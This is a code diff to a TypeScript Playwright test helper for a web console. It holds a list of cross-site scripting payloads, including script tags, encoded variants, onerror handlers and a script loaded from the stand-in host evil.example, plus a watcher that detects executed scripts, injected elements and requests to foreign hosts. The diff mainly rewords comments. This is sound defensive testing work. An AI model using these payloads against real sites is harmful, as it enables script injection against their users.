@@ -1,10 +1,11 @@
-// Texts that want to be more than texts, and a watch that says whether one of them was: something ran,
-// something foreign stands in a page, something was asked of a stranger, or the policy refused it.
+// Texts that try to be code or markup, and a watch that detects any success: a script ran, a
+// foreign element is in a page, a request went to a foreign host, or the content security policy
+// blocked something.
 import type { Page } from 'playwright-core';
 
-/** Each calls `hurt()` or fetches from `evil.example` where it gets the chance. */
+/** Each calls `hurt()` or fetches from `evil.example` if it gets the chance. */
 export const hostileTexts: readonly string[] = [
-  // markup that runs
+  // markup with scripts
   '<script>hurt()</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   '"><script>hurt()</script>',
@@ -18,7 +19,7 @@ export const hostileTexts: readonly string[] = [
   '&lt;script&gt;hurt()&lt;/script&gt;',
   '＜script＞hurt()＜/script＞',
   '%3Cscript%3Ehurt()%3C/script%3E',
-  // handlers
+  // event handlers
   '<img src=x onerror=hurt()>',
   '<img src=x onerror=&#104;urt()>',
   '<img/src="x"/onerror="hurt()"//',
@@ -110,7 +111,9 @@ export const hostileTexts: readonly string[] = [
   '((((((((((((((((((((((((((((((((((((((((',
 ];
 
-/** All of them, several in one of so many characters at most; a longer one is cut. */
+/**
+ * All of the texts, several combined in one of at most this many characters. Longer ones are cut.
+ */
 export function packed(length: number): readonly string[] {
   const found: string[] = [];
   for (const text of hostileTexts.map((each) => each.slice(0, length))) {
@@ -121,13 +124,13 @@ export function packed(length: number): readonly string[] {
   return found;
 }
 
-/** So many of a list, from all over it: of places where few are taken. */
+/** This many items from all over a list, for places that take only few. */
 export function spread<T>(list: readonly T[], count: number): readonly T[] {
   const every = Math.max(1, list.length / count);
   return list.filter((_, at) => Math.floor(at / every) !== Math.floor((at - 1) / every));
 }
 
-/** Put into a page before anything of it runs. */
+/** Runs in a page before any of its own code. */
 export function watchForHarm(): void {
   const harm: string[] = [];
   Object.assign(window, { harm, hurt: () => void harm.push('a text ran') });
@@ -138,14 +141,15 @@ export function watchForHarm(): void {
   });
 }
 
-/** What is wrong in a page now, in words; nothing where all is well. */
+/** What is wrong in a page now, in words. Empty if all is well. */
 export async function harmIn(page: Page): Promise<readonly string[]> {
   return page.evaluate(() => {
     const found: string[] = [...(Reflect.get(window, 'harm') ?? ['nobody watched'])];
     const foreign =
       'iframe,frame,object,embed,base,marquee,math,foreignObject,listing,xmp,plaintext,noscript,template,video,audio,source,details,animate,meta[http-equiv],script:not([src^="/assets/"],[data-own])';
     const own = 'svg[aria-hidden=true],svg[role=img],svg[role=presentation]';
-    // Of the console itself: earlier talks that open, and the account's panels, of the origin they have.
+    // The console's own: earlier conversations that open, and the account's panels with their known
+    // origin.
     const ours =
       '[data-own],.merged > details,iframe.own-frame[sandbox][src^="https://crm.example/"]';
     const roots: (Document | ShadowRoot)[] = [document];
@@ -192,7 +196,7 @@ export async function harmIn(page: Page): Promise<readonly string[]> {
   });
 }
 
-/** Notes what a page asks of hosts that only hostile texts name. */
+/** Collects requests of a page to hosts that only hostile texts name. */
 export function strangersAsked(page: Page): readonly string[] {
   const asked: string[] = [];
   page.on('request', (request) => {
